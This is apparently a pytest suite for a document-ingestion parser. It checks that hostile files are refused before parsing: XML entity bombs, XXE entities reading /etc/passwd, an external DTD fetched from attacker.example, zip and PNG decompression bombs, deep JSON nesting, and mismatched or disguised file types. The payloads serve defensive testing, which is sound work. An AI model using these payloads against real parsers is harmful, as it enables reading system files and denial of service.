"""Hostile and broken files: each fails alone, with a reason a person understands, before
any parser that could be hurt by it sees it. The attacks are built here from real corpus
files (an XML bomb inside a real DOCX, a real PDF renamed .docx, ...)."""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from ingest.parsing import ParseError, parse
from ingest.parsing.containers import MAX_ENTRIES
from tests.conftest import DOCUMENTS

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + b"]>\n"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
)
EXTERNAL_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE p SYSTEM "http://attacker.example/x.dtd">\n'


def rewrite_zip(source: Path, target: Path, changes: dict[str, bytes | None]) -> Path:
    """A copy of a real zip-based document with some members replaced (None: removed)."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as out:
        for info in original.infolist():
            if info.filename in changes:
                data = changes[info.filename]
                if data is not None:
                    out.writestr(info.filename, data, zipfile.ZIP_DEFLATED)
            else:
                out.writestr(info, original.read(info.filename))
        for name, data in changes.items():
            if name not in original.namelist() and data is not None:
                out.writestr(name, data, zipfile.ZIP_DEFLATED)
    return target


def with_prolog(source: Path, member: str, prolog: bytes) -> bytes:
    """The member's XML with its own declaration replaced by ``prolog``."""
    with zipfile.ZipFile(source) as archive:
        xml = archive.read(member)
    if xml.startswith(b"<?xml"):
        xml = xml[xml.index(b"?>") + 2 :]
    return prolog + xml.lstrip()


# --- XML bombs and external entities in Office and OpenDocument files ---------------------


@pytest.mark.parametrize(
    ("name", "member", "prolog"),
    [
        ("handbook-1p.docx", "word/document.xml", BILLION_LAUGHS),
        ("stanley-cups.xlsx", "xl/workbook.xml", EXTERNAL_ENTITY),
        ("fake-power-point.pptx", "ppt/presentation.xml", EXTERNAL_DTD),
        ("handbook-1p.docx", "[Content_Types].xml", EXTERNAL_ENTITY),
        ("handbook-1p.docx", "word/_rels/document.xml.rels", BILLION_LAUGHS),
        ("fake.odt", "content.xml", BILLION_LAUGHS),
    ],
)
def test_xml_declarations_inside_documents_are_refused_before_parsing(
    tmp_path: Path, name: str, member: str, prolog: bytes
) -> None:
    source = DOCUMENTS / name
    hostile = rewrite_zip(source, tmp_path / name, {member: with_prolog(source, member, prolog)})
    with pytest.raises(ParseError, match="declares XML entities or a document type"):
        list(parse(hostile, name.rsplit(".", 1)[1]))


def test_an_entity_in_utf16_xml_is_found_too(tmp_path: Path) -> None:
    source = DOCUMENTS / "handbook-1p.docx"
    xml = with_prolog(source, "word/document.xml", EXTERNAL_ENTITY.replace(b"UTF-8", b"UTF-16"))
    utf16 = b"\xff\xfe" + xml.decode("utf-8").encode("utf-16-le")
    hostile = rewrite_zip(source, tmp_path / "x.docx", {"word/document.xml": utf16})
    with pytest.raises(ParseError, match="declares XML entities"):
        list(parse(hostile, "docx"))


def test_an_epub_may_declare_xhtml_but_not_entities(tmp_path: Path) -> None:
    source = DOCUMENTS / "winter-sports.epub"
    with zipfile.ZipFile(source) as archive:
        page = next(n for n in archive.namelist() if n.endswith((".xhtml", ".html")))
        assert b"<!DOCTYPE" in archive.read(page)[:400]  # the real file declares XHTML
    hostile = rewrite_zip(
        source, tmp_path / "x.epub", {page: with_prolog(source, page, BILLION_LAUGHS)}
    )
    with pytest.raises(ParseError, match="declares XML entities"):
        list(parse(hostile, "epub"))


def test_a_plain_xml_file_with_entities_is_refused(tmp_path: Path) -> None:
    hostile = tmp_path / "bomb.xml"
    hostile.write_bytes(BILLION_LAUGHS + b"<lolz>&lol9;</lolz>")
    with pytest.raises(ParseError, match="declares XML entities"):
        list(parse(hostile, "xml"))


# --- zip bombs inside documents ------------------------------------------------------------


def test_a_document_part_that_unpacks_enormously_is_refused(tmp_path: Path) -> None:
    hostile = rewrite_zip(
        DOCUMENTS / "handbook-1p.docx",
        tmp_path / "bomb.docx",
        {"word/media/padding.bin": b"\0" * (40 << 20)},
    )
    assert hostile.stat().st_size < 1 << 20
    with pytest.raises(ParseError, match="zip bomb"):
        list(parse(hostile, "docx"))


def test_a_document_declaring_more_parts_than_allowed_is_refused(tmp_path: Path) -> None:
    hostile = tmp_path / "many.docx"
    hostile.write_bytes(forge_entry_count((DOCUMENTS / "handbook-1p.docx").read_bytes(), 60_000))
    with pytest.raises(ParseError, match=f"more than {MAX_ENTRIES:,} parts"):
        list(parse(hostile, "docx"))


def forge_entry_count(data: bytes, count: int) -> bytes:
    """The zip with its end record claiming ``count`` entries (the directory is unchanged)."""
    at = data.rfind(b"PK\x05\x06")
    patched = bytearray(data)
    patched[at + 8 : at + 12] = struct.pack("<HH", count, count)
    return bytes(patched)


# --- content that does not match its extension ----------------------------------------------


@pytest.mark.parametrize(
    ("source", "named", "reason"),
    [
        ("pdf/reliance.pdf", "report.docx", r"holds a PDF document\. Rename it to \.pdf"),
        ("handbook-1p.docx", "sheet.xlsx", r"holds Word \(\.docx\) content\. Rename it to \.docx"),
        ("stanley-cups.xlsx", "deck.pptx", r"holds Excel \(\.xlsx\) content"),
        ("fake.doc", "new.docx", r"older-format Word \(\.doc\) file\. Rename it to \.doc"),
        ("tests-example.xls", "letter.doc", r"holds Excel \(\.xls\)\. Rename it to \.xls"),
        ("CantinaBand3.wav", "notes.txt", "holds audio or video, which cannot be read"),
        ("img/DA-1p.png", "scan.pdf", r"holds a PNG image\. Rename it to \.png"),
        ("simple.zip", "archive.odt", "not an OpenDocument text"),
        ("handbook-1p.docx", "book.epub", r"holds Word \(\.docx\) content"),
        ("handbook-1p.docx", "old.doc", r"is a Word document in the newer format.*\.docx"),
        ("fake-power-point.pptx", "deck.ppt", r"PowerPoint presentation.*Rename it to \.pptx"),
        ("simple.zip", "letter.docx", r"not a Word \(\.docx\) file \(it is a zip archive"),
    ],
)
def test_content_that_does_not_match_its_extension_is_refused(
    tmp_path: Path, source: str, named: str, reason: str
) -> None:
    renamed = tmp_path / named
    renamed.write_bytes((DOCUMENTS / source).read_bytes())
    from ingest.parsing import kind_for_name

    with pytest.raises(ParseError, match=reason):
        list(parse(renamed, kind_for_name(named)))


def test_a_program_renamed_to_pdf_is_refused(tmp_path: Path) -> None:
    program = tmp_path / "invoice.pdf"
    program.write_bytes(b"MZ\x90\x00" + bytes(range(256)) * 8)
    with pytest.raises(ParseError, match="holds a program"):
        list(parse(program, "pdf"))


def test_an_empty_file_is_refused(tmp_path: Path) -> None:
    empty = tmp_path / "empty.docx"
    empty.write_bytes(b"")
    with pytest.raises(ParseError, match="empty"):
        list(parse(empty, "docx"))


def test_a_truncated_docx_is_damaged(tmp_path: Path) -> None:
    cut = tmp_path / "cut.docx"
    cut.write_bytes((DOCUMENTS / "handbook-1p.docx").read_bytes()[:5000])
    with pytest.raises(ParseError, match="damaged"):
        list(parse(cut, "docx"))


def test_an_encrypted_office_file_named_docx_is_called_password_protected(tmp_path: Path) -> None:
    locked = tmp_path / "locked.docx"
    locked.write_bytes((DOCUMENTS / "password_protected.xlsx").read_bytes())
    with pytest.raises(ParseError, match="Password-protected Word file"):
        list(parse(locked, "docx"))


# --- pictures --------------------------------------------------------------------------------


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims a huge picture (a decompression bomb's first step)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("side", [9_000, 30_000])
def test_a_picture_far_larger_than_any_scan_is_refused(tmp_path: Path, side: int) -> None:
    bomb = tmp_path / "bomb.png"
    bomb.write_bytes(png_claiming(side, side))
    with pytest.raises(ParseError, match="decompression bomb"):
        list(parse(bomb, "image"))


def test_a_damaged_picture_is_refused(tmp_path: Path) -> None:
    broken = tmp_path / "broken.jpg"
    broken.write_bytes((DOCUMENTS / "img" / "DA-1p.jpg").read_bytes()[:64])
    with pytest.raises(ParseError, match="damaged"):
        list(parse(broken, "image"))


# --- JSON -------------------------------------------------------------------------------------


def test_json_nested_beyond_reason_is_refused(tmp_path: Path) -> None:
    deep = tmp_path / "deep.json"
    deep.write_bytes(b"[" * 100_000 + b"]" * 100_000)
    with pytest.raises(ParseError, match="nested too deeply"):
        list(parse(deep, "json"))


def test_a_json_file_that_is_not_json_is_read_as_text(tmp_path: Path) -> None:
    broken = tmp_path / "broken.json"
    broken.write_bytes((DOCUMENTS / "fake-incomplete-json.txt").read_bytes())
    assert "".join(b.text for b in parse(broken, "json")).strip()
